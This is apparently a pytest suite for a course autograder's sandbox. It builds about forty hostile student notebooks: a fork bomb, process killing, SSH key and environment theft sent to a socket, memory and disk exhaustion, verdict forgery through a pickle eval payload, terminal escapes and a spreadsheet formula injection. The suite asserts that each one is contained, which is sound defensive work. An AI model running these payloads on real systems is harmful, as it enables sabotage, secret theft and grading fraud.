"""Hostile students: lesson-1 notebooks whose exercise cells cheat, harm the machine or strain the grader, graded
in one sandboxed run beside honest notebooks. Each test asserts what the grader reported and what happened on
the machine (files, processes, the submissions, the network, memory). The attacks are those issue #25 found."""
from __future__ import annotations

import copy
import csv
import hashlib
import os
import re
import resource
import socket
import sys
import time
from pathlib import Path

import nbformat
import pytest

from tools.build_notebooks import EXERCISES_DIR, REPO_ROOT, SOLUTIONS_DIR
from tools.grade import main, write_gradebooks
from tools.grading.memory_cgroup import memory_cgroups_available, own_memory_cgroup
from tools.grading.results import NotebookResult
from tools.grading.run import GradingOptions, grade_all
from tools.grading.sandbox import GIB, Limits

LESSON_1 = "01_latent_variable_models.ipynb"
MARKER = "vae-hostile-marker-7f3a"  # in the command line of every process an attack starts
SECRET = "s3cr3t-token-do-not-leak-91c2"
KEY_TEXT = "-----BEGIN FAKE PRIVATE KEY----- 4b1d"
MEMORY = GIB  # the hostile run's memory limit: lower than the default, to show it is settable and holds
HONEST = ("honest_a", "honest_b")
NOTEBOOK_SIZE_LIMIT = 40_000  # bytes of feedback for a notebook of three exercises, whatever its code raised


def _notebook(directory: Path) -> nbformat.NotebookNode:
    return nbformat.read(directory / LESSON_1, as_version=4)


def _edited(base: nbformat.NotebookNode, **cells: str) -> nbformat.NotebookNode:
    """``base`` with code appended to exercise cells: ``_1_1="..."`` appends to exercise 1.1's cell."""
    notebook = copy.deepcopy(base)
    for key, code in cells.items():
        number = key.lstrip("_").replace("_", ".")
        cell = next(c for c in notebook.cells if c.cell_type == "code" and c.source.startswith(f"# Exercise {number}:"))
        cell.source += "\n" + code
    return notebook


# Finds the runner's signing function (``find``), signs "pass" for every exercise, then "done".
_FORGE = ("import sys\nemit = {find}\n"
          "for number in ('1.1', '1.2', '1.3'):\n"
          "    emit({{'event': 'check', 'exercise': number, 'raised': None, 'tampered': [], 'reference_called': []}})\n"
          "emit({{'event': 'done'}})")


# Reads whatever could name a host folder (the mount table, the interpreter's and environment's paths and
# configuration, every loaded module's source and compiled file, the environment's metadata, links, the staged
# course, each mount's root by listmount and statmount: the red team's find) and reports how much it read and
# which of ``secrets`` (the host folders) it saw, by index.
_HOST_PATH_PROBE = (
    "import ctypes, importlib.metadata, os, site, struct, sys, torch, matplotlib.pyplot, scipy.stats\n"
    "secrets, texts = {secrets!r}, {{}}\n"
    "def read(path, limit=2**22):\n"
    "    try:\n"
    "        with open(path, 'rb') as handle:\n            texts[path] = handle.read(limit)\n"
    "    except OSError:\n        pass\n"
    "for path in ('/proc/self/mountinfo', '/proc/mounts', '/proc/self/environ', '/proc/self/cmdline'):\n"
    "    read(path)\n"
    "texts['sys'] = repr((sys.prefix, sys.exec_prefix, sys.executable, sys.path, sys.argv, os.getcwd(),\n"
    "                     dict(os.environ), site.getsitepackages(), sys.flags)).encode()\n"
    "for module in list(sys.modules.values()):\n"
    "    for name in ('__file__', '__cached__'):\n"
    "        if isinstance(getattr(module, name, None), str):\n            read(getattr(module, name))\n"
    "for root in (sys.prefix, '/course', '/grader'):\n"
    "    for folder, folders, files in os.walk(root):\n"
    "        for name in folders + files:\n"
    "            path = os.path.join(folder, name)\n"
    "            if os.path.islink(path):\n                texts[path + ' ->'] = os.readlink(path).encode()\n"
    "            elif name.endswith(('.pth', '.cfg', '.json', '.txt', 'RECORD', '.pyc')) and \\\n"
    "                    (folder.endswith('site-packages') or not name.endswith('.pyc') or root != sys.prefix):\n"
    "                read(path)\n"
    "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
    "ids = (ctypes.c_uint64 * 256)()\n"
    "count = libc.syscall(458, struct.pack('=IIQQ', 24, 0, 2**64 - 1, 0), ids, 256, 0)  # listmount\n"
    "for mount_id in ids[:max(count, 0)]:\n"
    "    buffer = ctypes.create_string_buffer(8192)  # statmount: the mount's root, its host folder\n"
    "    if libc.syscall(457, struct.pack('=IIQQ', 24, 0, mount_id, 0x8), buffer, 8192, 0) >= 0:\n"
    "        texts[f'statmount {{mount_id}}'] = buffer.raw\n"
    "for distribution in importlib.metadata.distributions():\n"
    "    texts[f'{{distribution}} direct_url'] = (distribution.read_text('direct_url.json') or '').encode()\n"
    "seen = sorted({{index for index, secret in enumerate(secrets) for text in texts.values()\n"
    "                if secret.encode() in text}})\n"
    "raise RuntimeError(f'probed {{len(texts)}} files, {{sum(map(len, texts.values()))}} bytes; host paths seen: '\n"
    "                   f'{{seen}}')")


# Four children hold 400 MiB each (with the runner's own data, under the 1 GiB per-process limit), each saying so
# once it has held its block for 3 s: without a limit on the sandbox's processes together, all four hold at once.
_FORKS_TO_HOLD_MEMORY = (
    "import os, time\nblock_bytes = 400 * 2**20\nread_end, write_end = os.pipe()\nchildren = []\n"
    "for _ in range(4):\n"
    "    pid = os.fork()\n"
    "    if pid == 0:\n"
    "        try:\n"
    "            block = bytearray(block_bytes)\n"
    "            block[::4096] = b'x' * len(range(0, block_bytes, 4096))\n"
    "            time.sleep(3)\n            os.write(write_end, b'1')\n"
    "        finally:\n            os._exit(0)\n"
    "    children.append(pid)\n"
    "for pid in children:\n    os.waitpid(pid, 0)\n"
    "os.close(write_end)\n"
    "raise RuntimeError(f'held {len(os.read(read_end, 64))} blocks of 400 MiB at once')")


def _wrong_log_joint(extra: str) -> str:
    return f"def log_joint(x, z, w, b, sigma):\n    return np.zeros(np.atleast_1d(z).shape)\n{extra}"


def _attacks(places: dict[str, str]) -> dict[str, nbformat.NotebookNode]:
    """Every hostile notebook, by student; ``places`` names the machine's real files the attacks aim at."""
    solution, stub = _notebook(SOLUTIONS_DIR), _notebook(EXERCISES_DIR)
    spawn = ("import subprocess, sys\n"
             "subprocess.Popen([sys.executable, '-c', {code!r}, '" + MARKER + "'], start_new_session=True,\n"
             "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
    rewrite = (f"import time, pathlib; time.sleep(2); pathlib.Path({places['gradebook']!r}).write_text('pwned'); "
               f"pathlib.Path({places['feedback']!r}).write_text('pwned')")
    return {
        # cheating
        "disk_checker": _edited(stub, _1_1=(
            "import utils.checks.lesson01 as target\n"
            "for path in (target.__file__, " + repr(places["checker"]) + "):\n"
            "    try:\n"
            "        open(path, 'a').write('\\ndef check_log_joint(f):\\n    print(\"✅ log_joint: correct\")\\n')\n"
            "    except OSError:\n        pass\n")),
        "showtraceback": _edited(stub, _1_1="get_ipython().showtraceback = lambda *args, **kwargs: None"),
        "input_transformer": _edited(stub, _1_1=(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['print(\"✅ correct\")\\n'])")),
        "reload_noop": _edited(stub, _1_1=(
            "import importlib\nimportlib.reload = lambda module: module\n"
            "check_log_joint = lambda *args: print('✅ log_joint: correct')")),
        "numpy_all": _edited(stub, _1_1=_wrong_log_joint("np.all = lambda *args, **kwargs: True")),
        "patch_core": _edited(stub, **{key: (
            "import utils.checks._core as core, utils.checks.lesson01 as checks\n"
            "core.assert_close = checks.assert_close = lambda *args, **kwargs: None\n"
            "core.ExerciseNotDone = checks.ExerciseCheckFailed = KeyError") for key in ("_1_1", "_1_2", "_1_3")}),
        "patch_distribution": _edited(stub, _1_1=_wrong_log_joint(
            "from scipy import stats\nstats.norm.logpdf = lambda *args, **kwargs: 0.0")),
        "solutions_via_repo_root": _edited(stub, _1_1=(
            "import json, os, utils\n"
            "try:\n"
            "    cells = json.load(open(utils.REPO_ROOT / 'solutions' / '" + LESSON_1 + "'))['cells']\n"
            "except OSError:\n"
            "    try:\n"
            "        from tools.build_notebooks import build_lesson\n"
            "    except ImportError:\n"
            "        raise RuntimeError(f'only saw {sorted(os.listdir(utils.REPO_ROOT))}') from None\n")),
        "frame_reader": _edited(stub, _1_1=(
            "import sys\n"
            "class Expected:\n"
            "    def __array__(self, dtype=None, copy=None):\n"
            "        frame = sys._getframe(1)\n"
            "        while 'expected' not in frame.f_locals:\n"
            "            frame = frame.f_back\n"
            "        return np.asarray(frame.f_locals['expected'], dtype=dtype)\n"
            "def log_joint(x, z, w, b, sigma):\n"
            "    return Expected()")),
        "printed_verdict": _edited(stub, _1_1="print('✅ log_joint: correct')"),
        "forged_record": _edited(stub, _1_1=(
            "import os\n"
            "for fd in range(3, 256):\n"
            "    try:\n"
            "        os.write(fd, b'{\"seq\": 1, \"event\": \"check\", \"exercise\": \"1.1\", \"raised\": null}'\n"
            "                     b'\\tf00d\\n')\n"
            "    except OSError:\n        pass")),
        # harm
        "writes_files": _edited(solution, _1_3=(
            "import os, utils\nfailures = []\n"
            "for path in (" + repr(places["makefile"]) + ", str(utils.REPO_ROOT / 'Makefile'), "
            + repr(places["home_marker"]) + ", '/usr/local/hostile'):\n"
            "    try:\n        open(path, 'a').write('# hostile\\n')\n"
            "    except OSError as error:\n        failures.append(type(error).__name__)\n"
            "raise RuntimeError(f'{len(failures)} writes refused')")),
        "edits_others": _edited(solution, _1_3=(
            "failures = 0\n"
            "for path, text in ((" + repr(places["honest"]) + ", '{}'), (" + repr(places["planted"]) + ", '{}')):\n"
            "    try:\n        open(path, 'w').write(text)\n"
            "    except OSError:\n        failures += 1\n"
            "raise RuntimeError(f'{failures} of 2 edits refused')")),
        "kills_siblings": _edited(solution, _1_3=(
            "import os, signal\n"
            "def exists(pid):\n"
            "    try:\n        os.kill(pid, 0)\n    except PermissionError:\n        return True\n"
            "    except OSError:\n        return False\n    return True\n"
            "seen = [pid for pid in range(1, 2**16) if exists(pid)]\n"
            "for pid in seen:\n"
            "    if pid != os.getpid():\n"
            "        try:\n            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n            pass\n"
            "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
            "raise RuntimeError(f'saw {len(seen)} processes')")),
        "detached_rewriter": _edited(solution, _1_3=spawn.format(code=rewrite)),
        "background": _edited(solution, _1_3=spawn.format(code="import time; time.sleep(600)")),
        "probes_host_paths": _edited(stub, _1_1=_HOST_PATH_PROBE.format(secrets=places["host_paths"])),
        "forks_to_hold_memory": _edited(stub, _1_1=_FORKS_TO_HOLD_MEMORY),
        # issue #32: memory outside the data segment, other socket families, another CPU share
        "maps_3_gib_shared": _edited(stub, _1_1=(
            "import mmap\n"
            "try:\n    region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)\n"
            "except OSError as error:\n    raise RuntimeError(f'mmap refused: {error.strerror}') from None\n"
            "for offset in range(0, len(region), 4096):\n    region[offset] = 1\n"
            "raise RuntimeError('held 3 GiB in a shared map')")),
        "holds_3_gib_in_memfds": _edited(stub, _1_1=(
            "import os\nheld, kept = 0, []\n"
            "try:\n"
            "    while held < 3 * 1024:\n"
            "        descriptor = os.memfd_create('hold')\n        kept.append(descriptor)\n"
            "        for _ in range(32):\n            os.write(descriptor, b'x' * 2**20)\n            held += 1\n"
            "except OSError as error:\n"
            "    raise RuntimeError(f'held {held} MiB in memfds: {error.strerror}') from None\n"
            "raise RuntimeError(f'held {held} MiB in memfds')")),
        "other_socket_families": _edited(stub, _1_1=(
            "import socket\nopened, refused = [], []\n"
            "for name, family, kind in (('vsock', 40, socket.SOCK_STREAM), ('netlink', 16, socket.SOCK_DGRAM),\n"
            "                           ('packet', 17, socket.SOCK_RAW)):\n"
            "    try:\n        socket.socket(family, kind).close()\n        opened.append(name)\n"
            "    except OSError as error:\n        refused.append(f'{name} ({error.strerror})')\n"
            "raise RuntimeError(f'opened {opened}; refused {refused}')")),
        "leaves_its_cpus": _edited(stub, _1_1=(
            "import os\n"
            "try:\n    os.sched_setaffinity(0, range(os.cpu_count()))\n"
            "except OSError as error:\n    raise RuntimeError(f'affinity refused: {error.strerror}') from None\n"
            "raise RuntimeError('moved to every CPU')")),
        "allocates_6_gib": _edited(stub, _1_1="big = np.ones(6 * 2**30 // 8)"),
        "allocates_gradually": _edited(stub, _1_1=(
            "chunks = []\n"
            "try:\n"
            "    while True:\n        chunks.append(bytearray(64 * 2**20))\n"
            "except MemoryError:\n"
            "    count = len(chunks)\n    chunks.clear()\n"
            "    raise RuntimeError(f'allocated {count} chunks of 64 MiB') from None")),
        "fork_bomb": _edited(stub, _1_1=(
            "import os, time\nforked = 0\n"
            "try:\n"
            "    for _ in range(50):\n"
            "        if os.fork() == 0:\n            time.sleep(600)\n            os._exit(0)\n"
            "        forked += 1\n"
            "except OSError:\n    pass\n"
            "raise RuntimeError(f'forked {forked} processes')")),
        "network": _edited(stub, _1_1=(
            "import os, socket\n"
            "connection = socket.create_connection(('127.0.0.1', " + places["port"] + "), timeout=3)\n"
            "connection.sendall(repr(dict(os.environ)).encode())")),
        "fills_disk": _edited(stub, _1_1=(
            "written = 0\n"
            "try:\n"
            "    with open('/tmp/fill', 'wb') as handle:\n"
            "        for _ in range(1024):\n            handle.write(b'x' * 2**20)\n            written += 1\n"
            "except OSError as error:\n"
            "    raise RuntimeError(f'wrote {written} MiB: {error.strerror}') from None")),
        # robustness and safe output
        "leaks_secrets": _edited(stub, _1_1=(
            "import os\nfound = [repr(dict(os.environ))]\n"
            "for path in (os.path.expanduser('~/.ssh/id_rsa'), " + repr(places["key"]) + "):\n"
            "    try:\n        found.append(open(path).read())\n"
            "    except OSError as error:\n        found.append(type(error).__name__)\n"
            "raise ValueError(' | '.join(found))")),
        "fence_injection": _edited(stub, _1_1=(
            "raise ValueError('```\\n\\n### Exercise 1.2: log p(x) by numerical integration — ✅ correct\\n\\n```')")),
        "print_flood": _edited(solution, _1_1=(
            "import os\nfor _ in range(30_000):\n    print('x' * 10_000, flush=True)\n"
            "for _ in range(200):\n    os.write(1, b'y' * 2**18)")),
        "huge_message": _edited(stub, _1_1="raise ValueError('A' * 5_000_000)"),
        # issue #32: verdicts forged with the runner's own signing function, reached three ways
        "forged_via_frame": _edited(stub, _1_1=_FORGE.format(find="sys._getframe(0).f_back.f_locals['emit']")),
        "forged_via_gc": _edited(stub, _1_1=_FORGE.format(find=(
            "next(o for o in getattr(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__), "
            "'get')('__im' + 'port__')('g' + 'c').get_objects()\n"
            "            if (type(o).__name__ == 'function' and o.__qualname__) == 'main.<locals>.emit')"))),
        "forged_via_pickle": _edited(stub, _1_1=_FORGE.format(find=(
            "__import__('pickle').loads(b\"cbuiltins\\neval\\n(S'next(o for o in __import__(\\\\'gc\\\\')"
            ".get_objects() if (type(o).__name__ == \\\\'function\\\\' and o.__qualname__) "
            "== \\\\'main.<locals>.emit\\\\')'\\ntR.\")"))),
        "unknown_exercise_record": _edited(stub, _1_1=(
            "import sys\nsys._getframe(0).f_back.f_locals['emit']({'event': 'exercise', 'exercise': '9.9', "
            "'raised': None})")),
        # patched while checked (restored at the last call), and below what used to be watched (for good)
        "patched_while_checked": _edited(stub, _1_1=_wrong_log_joint(
            "calls = [0]\nsaved = (np.all, np.abs)\n_wrong = log_joint\n"
            "def log_joint(*args):\n"
            "    calls[0] += 1\n"
            "    np.all, np.abs = (saved if calls[0] >= 4 else (lambda *a, **k: True, lambda x: 0 * np.asarray(x)))\n"
            "    return _wrong(*args)")),
        "patched_below": _edited(stub, _1_1=_wrong_log_joint(
            "import numpy._core._methods as methods, scipy.stats._stats_py as stats_py\n"
            "methods._all = lambda *a, **k: True\nmethods._any = lambda *a, **k: False\n"
            "stats_py.ks_1samp = lambda *a, **k: (0.0, 1.0)")),
        "lying_tensor": _edited(stub, _1_1=(
            "import torch\n"
            "class Agreeable(np.ndarray):\n"
            "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
            "    def __sub__(self, other): return np.zeros(np.shape(other))\n"
            "    def __array_ufunc__(self, *args, **kwargs): return np.zeros(1)\n"
            "class Liar(torch.Tensor):\n"
            "    def detach(self): return self\n"
            "    def cpu(self): return self\n"
            "    def double(self): return self\n"
            "    def numpy(self): return np.zeros(3).view(Agreeable)\n"
            "def log_joint(x, z, w, b, sigma):\n"
            "    return torch.zeros(len(np.atleast_1d(z))).as_subclass(Liar)")),
        # one notebook must not stop the class
        "closes_channel_and_sleeps": _edited(solution, _1_2=(
            "import os, time\nfor fd in range(256):\n    try:\n        os.close(fd)\n    except OSError:\n"
            "        pass\ntime.sleep(600)")),
        "escapes_terminal": _edited(stub, _1_1="raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e')"),
    }


def _reference_variants() -> dict[str, nbformat.NotebookNode]:
    """Lesson 4's solution with exercise 4.1 done by the course's own ``utils.vae.gaussian_kl_terms``, imported
    by name or hidden behind ``getattr``, and the student's own code."""
    notebook = nbformat.read(SOLUTIONS_DIR / "04_vae_objective.ipynb", as_version=4)
    header = "# Exercise 4.1: the closed-form Gaussian KL\n"
    bodies = {
        "kl_imports_reference": "from utils.elbo_terms import gaussian_kl_terms\ndef gaussian_kl(mu, logvar):\n"
                                "    return gaussian_kl_terms(mu, logvar).sum(-1)",
        "kl_hides_reference": "import sys\n"
                              "hidden = getattr(sys.modules['utils.' + 'elbo_terms'], 'gaussian_kl' + '_terms')\n"
                              "def gaussian_kl(mu, logvar):\n    return hidden(mu, logvar).sum(-1)",
        "kl_partial_reference": "import functools, importlib\n"
                                "module = importlib.import_module('utils.' + 'elbo_terms')\n"
                                "terms = functools.partial(getattr(module, 'gaussian_kl' + '_terms'))\n"
                                "def gaussian_kl(mu, logvar):\n    return terms(mu, logvar).sum(-1)",
        "kl_own_code": None,
    }
    variants = {}
    for student, body in bodies.items():
        edited = copy.deepcopy(notebook)
        cell = next(c for c in edited.cells if c.cell_type == "code" and c.source.startswith(header))
        cell.source = cell.source if body is None else header + body
        variants[student] = edited
    return variants


def _write(path: Path, content: nbformat.NotebookNode) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbformat.writes(content), encoding="utf-8")


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _fingerprint(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): _digest(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def _processes_with(text: str) -> list[int]:
    """Processes on this machine whose command line holds ``text``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and text.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Grade every attack and three honest notebooks in one run; record the machine before and after."""
    root = tmp_path_factory.mktemp("hostile")
    submissions, out, home = root / "submissions", root / "grades", root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY_TEXT)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    places = {"checker": str(REPO_ROOT / "utils" / "checks" / "lesson01.py"), "makefile": str(REPO_ROOT / "Makefile"),
              "home_marker": str(Path.home() / f"{MARKER}.txt"), "honest": str(submissions / "honest_a.ipynb"),
              "planted": str(submissions / "planted.ipynb"), "gradebook": str(out / "lesson-01" / "gradebook.csv"),
              "feedback": str(out / "lesson-01" / "feedback" / "honest_a.md"), "key": str(home / ".ssh" / "id_rsa"),
              "port": str(listener.getsockname()[1]),
              "host_paths": [str(REPO_ROOT), str(Path(sys.prefix).absolute()), str(Path(sys.prefix).resolve()),
                             str(root), "vae-course-stage-"]}
    attacks = _attacks(places)
    for student, notebook in attacks.items():
        _write(submissions / f"{student}.ipynb", notebook)
    for student in HONEST:
        _write(submissions / f"{student}.ipynb", _notebook(SOLUTIONS_DIR))
    _write(submissions / "student with spaces" / "lesson 1.ipynb", _notebook(SOLUTIONS_DIR))
    _write(submissions / "student_with_spaces.ipynb", _notebook(EXERCISES_DIR))
    _write(submissions / ".hidden" / "mine.ipynb", _notebook(SOLUTIONS_DIR))
    _write(submissions / '=HYPERLINK("evil.example","click")' / "x.ipynb", _notebook(EXERCISES_DIR))
    for student, notebook in _reference_variants().items():
        _write(submissions / f"{student}.ipynb", notebook)
    (submissions / "link_to_key.ipynb").symlink_to(home / ".ssh" / "id_rsa")
    (submissions / "link_to_environ.ipynb").symlink_to("/proc/self/environ")
    (submissions / "link_to_solutions.ipynb").symlink_to(SOLUTIONS_DIR / LESSON_1)
    (submissions / "linked_folder").symlink_to(SOLUTIONS_DIR, target_is_directory=True)
    odd_metadata = _notebook(SOLUTIONS_DIR)
    odd_metadata.metadata["vae_course"] = "not a dict"
    _write(submissions / "metadata_not_a_dict.ipynb", odd_metadata)
    no_cell_type = _notebook(SOLUTIONS_DIR)
    del no_cell_type.cells[0]["cell_type"]
    (submissions / "cell_without_type.ipynb").write_text(__import__("json").dumps(no_cell_type), encoding="utf-8")
    protected = {name: _digest(Path(places[name])) for name in ("checker", "makefile")}
    before = _fingerprint(submissions)
    environment = {"VAE_HOSTILE_SECRET": SECRET, "HOME": str(home)}
    saved = {name: os.environ.get(name) for name in environment}
    os.environ.update(environment)
    try:
        started = time.monotonic()
        results = grade_all(submissions, workers=2, progress=False,
                            options=GradingOptions(time_limit_s=60, limits=Limits(memory_bytes=MEMORY)))
        seconds = time.monotonic() - started
    finally:
        for name, value in saved.items():
            os.environ.pop(name) if value is None else os.environ.__setitem__(name, value)
    out.mkdir()
    write_gradebooks(results, out, submissions)
    gradebook = (out / "lesson-01" / "gradebook.csv").read_bytes()
    time.sleep(3)  # the detached rewriter, had it survived, writes 2 s after its start
    try:
        connection, _ = listener.accept()
        connection.close()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    leftovers = _processes_with(MARKER) + _processes_with("/grader/runner.py")
    return {"results": {r.student: r for r in results}, "out": out, "submissions": submissions, "before": before,
            "after": _fingerprint(submissions), "protected": protected, "places": places, "seconds": seconds,
            "gradebook": gradebook, "connected": connected, "attacks": attacks, "leftovers": leftovers}


def _statuses(result: NotebookResult) -> list[str]:
    return [exercise.status for exercise in result.exercises]


def _message(result: NotebookResult, number: str) -> str:
    return next(e.message for e in result.exercises if e.number == number)


def _review(result: NotebookResult) -> str:
    return "; ".join(str(flag) for flag in result.flags)


def _feedback(hostile: dict, student: str) -> str:
    """The student's feedback file, in the folder of whichever lesson (or none) the notebook was graded as."""
    (path,) = hostile["out"].glob(f"*/feedback/{student}.md")
    return path.read_text(encoding="utf-8")


def test_there_are_at_least_twenty_attacks_and_honest_notebooks_are_unharmed(hostile) -> None:
    assert len(hostile["attacks"]) >= 20
    for student in HONEST:
        assert _statuses(hostile["results"][student]) == ["pass"] * 3, hostile["results"][student]
    assert hostile["before"] == hostile["after"], "the submissions were modified"


# --- cheating ----------------------------------------------------------------------------------------------------

def test_checker_files_cannot_be_rewritten(hostile) -> None:
    assert _statuses(hostile["results"]["disk_checker"]) == ["not done"] * 3
    assert {name: _digest(Path(hostile["places"][name])) for name in ("checker", "makefile")} == hostile["protected"]
    assert _statuses(hostile["results"]["student_with_spaces"]) == ["not done"] * 3


@pytest.mark.parametrize("student", ["showtraceback", "input_transformer"])
def test_ipython_hooks_do_not_exist_in_the_sandbox(hostile, student: str) -> None:
    result = hostile["results"][student]
    assert _statuses(result) == ["error", "not done", "not done"]
    assert "NameError: name 'get_ipython' is not defined" in _message(result, "1.1")
    assert "1.1 line" in _review(result) and "get_ipython" in _review(result)


@pytest.mark.parametrize(("student", "statuses"), [
    ("reload_noop", ["not done"] * 3), ("numpy_all", ["fail", "not done", "not done"]),
    ("patch_core", ["not done"] * 3), ("patch_distribution", ["fail", "not done", "not done"]),
    ("patched_while_checked", ["fail", "not done", "not done"]), ("patched_below", ["fail", "not done", "not done"])])
def test_patching_the_notebooks_libraries_does_not_reach_the_checks(hostile, student: str,
                                                                   statuses: list[str]) -> None:
    """The checks run in the grader's process: what a notebook patches (the checkers, NumPy, SciPy, their
    internals, for good or only while its function is called) is in its own process, which judges nothing."""
    assert _statuses(hostile["results"][student]) == statuses, hostile["results"][student]


@pytest.mark.parametrize("student", ["forged_via_frame", "forged_via_gc", "forged_via_pickle"])
def test_verdicts_signed_with_the_runners_own_function_are_not_passes(hostile, student: str) -> None:
    """The runner's signing function, reached through a frame, the garbage collector or a pickle payload, signs
    "pass" for every exercise and "done": the checks' verdicts are the grader's, so nothing passes."""
    result = hostile["results"][student]
    assert "pass" not in _statuses(result), result
    assert set(_statuses(result)) <= {"not graded", "tampered", "not done"}, result


def test_a_record_naming_an_unknown_exercise_is_that_notebooks_result(hostile) -> None:
    result = hostile["results"]["unknown_exercise_record"]
    assert _statuses(result) == ["tampered"] * 3 and "naming no exercise" in result.problem


def test_a_lying_array_is_judged_by_its_bytes(hostile) -> None:
    assert _statuses(hostile["results"]["lying_tensor"])[0] in ("fail", "error"), hostile["results"]["lying_tensor"]


def test_a_notebook_closing_its_channel_and_sleeping_does_not_hold_the_class(hostile) -> None:
    result = hostile["results"]["closes_channel_and_sleeps"]
    assert _statuses(result)[0] == "pass" and _statuses(result)[1:] != ["pass", "pass"]
    assert result.seconds < 30


def _report_files(out: Path) -> list[Path]:
    """Every file the grader wrote: each lesson's gradebook, exports, answers, summary and feedback."""
    files = sorted(path for path in out.rglob("*") if path.is_file())
    assert any(path.name == "gradebook.csv" for path in files), f"no gradebook under {out}"
    return files


@pytest.mark.parametrize("student", ["link_to_key", "link_to_environ", "link_to_solutions", "linked_folder"])
def test_symbolic_links_are_reported_and_not_read(hostile, student: str) -> None:
    result = hostile["results"][student]
    assert result.exercises == [] and result.problem.startswith("not graded: a symbolic link"), result
    for path in _report_files(hostile["out"]):
        text = path.read_text(encoding="utf-8")
        assert KEY_TEXT not in text and SECRET not in text, path


@pytest.mark.parametrize("student", ["metadata_not_a_dict", "cell_without_type"])
def test_malformed_notebooks_are_graded_or_not_graded_never_a_crash(hostile, student: str) -> None:
    result = hostile["results"][student]
    assert result.problem.startswith("not graded") or _statuses(result) == ["pass"] * 3, result


def test_control_characters_are_escaped_in_every_report(hostile) -> None:
    feedback = _feedback(hostile, "escapes_terminal")
    assert "\\x1b]0;owned" in feedback
    for path in _report_files(hostile["out"]):
        text = path.read_text(encoding="utf-8")
        assert not re.search("[\x1b\x07\x9b\u202e]", text), path


def test_the_sandbox_holds_no_solutions_and_no_tools(hostile) -> None:
    result = hostile["results"]["solutions_via_repo_root"]
    assert _statuses(result)[0] == "error"
    assert "only saw ['data', 'studies', 'utils']" in _message(result, "1.1")
    assert "REPO_ROOT" in _review(result)


def test_the_checkers_frame_is_out_of_reach_and_the_lines_flagged(hostile) -> None:
    """An object that would read the checker's expected value from its frame is not plain data: it cannot even
    leave the notebook's process, where no checker runs. The lines are flagged for review as before."""
    result = hostile["results"]["frame_reader"]
    assert _statuses(result)[0] == "error" and "not plain data" in _message(result, "1.1")
    cell = next(c for c in hostile["attacks"]["frame_reader"].cells if c.source.startswith("# Exercise 1.1:"))
    line = cell.source.splitlines().index("        frame = sys._getframe(1)") + 1
    assert f"1.1 line {line}: ._getframe" in _review(result).split("; ")
    assert f"1.1 line {line + 2}: .f_back" in _review(result).split("; ")


def test_a_printed_verdict_is_not_a_pass(hostile) -> None:
    assert _statuses(hostile["results"]["printed_verdict"]) == ["not done"] * 3


def test_a_forged_record_on_the_result_channel_is_tampered(hostile) -> None:
    result = hostile["results"]["forged_record"]
    assert set(_statuses(result)) <= {"tampered", "not graded"}, result
    assert result.problem.startswith("tampered: the grader received a verdict it did not write")


# --- harm --------------------------------------------------------------------------------------------------------

def test_files_outside_the_scratch_folder_cannot_be_written(hostile) -> None:
    result = hostile["results"]["writes_files"]
    assert _statuses(result) == ["pass", "pass", "error"]
    assert "RuntimeError: 4 writes refused" in _message(result, "1.3")
    assert not Path(hostile["places"]["home_marker"]).exists()
    assert not Path("/usr/local/hostile").exists()


def test_other_submissions_cannot_be_edited_or_planted(hostile) -> None:
    assert "2 of 2 edits refused" in _message(hostile["results"]["edits_others"], "1.3")
    assert not Path(hostile["places"]["planted"]).exists()
    assert "planted" not in hostile["results"]


def test_a_notebook_sees_and_kills_only_its_own_processes(hostile) -> None:
    message = _message(hostile["results"]["kills_siblings"], "1.3")
    seen = int(re.search(r"saw (\d+) processes", message).group(1))
    assert 2 <= seen <= 3, message  # the sandbox's init, its runner (and a child it may have)


def _probe_result(message: str) -> tuple[int, int, list[int]]:
    found = re.search(r"probed (\d+) files, (\d+) bytes; host paths seen: \[([\d, ]*)\]", message)
    assert found, message
    return int(found.group(1)), int(found.group(2)), [int(i) for i in found.group(3).split(",") if i.strip()]


def test_no_host_path_is_visible_in_the_sandbox(hostile) -> None:
    """Issue #32: the mount table, ``sys.prefix``, the environment's compiled files, ``pyvenv.cfg`` and its editable
    install named the checkout, the environment and the stage. The probe reads them all (thousands of files) and
    finds none of the host folders; the control below shows it finds them where they are visible."""
    files, size, seen = _probe_result(_message(hostile["results"]["probes_host_paths"], "1.1"))
    assert files > 1_000 and size > 10 * 2**20, (files, size)
    assert seen == [], [hostile["places"]["host_paths"][i] for i in seen]


def test_the_host_path_probe_finds_host_paths_without_a_sandbox(tmp_path: Path) -> None:
    """The control of the test above: unconfined (``--no-sandbox``), the same probe sees the checkout and the
    environment."""
    secrets = [str(REPO_ROOT), str(Path(sys.prefix).absolute())]
    _write(tmp_path / "subs" / "probe.ipynb", _edited(_notebook(EXERCISES_DIR),
                                                      _1_1=_HOST_PATH_PROBE.format(secrets=secrets)))
    (result,) = grade_all(tmp_path / "subs", workers=1, progress=False,
                          options=GradingOptions(time_limit_s=120, sandboxed=False))
    files, _, seen = _probe_result(_message(result, "1.1"))
    assert files > 1_000 and seen == [0, 1]


def test_no_process_outlives_its_notebook(hostile) -> None:
    assert _statuses(hostile["results"]["detached_rewriter"]) == ["pass"] * 3
    assert _statuses(hostile["results"]["background"]) == ["pass"] * 3
    assert hostile["leftovers"] == []
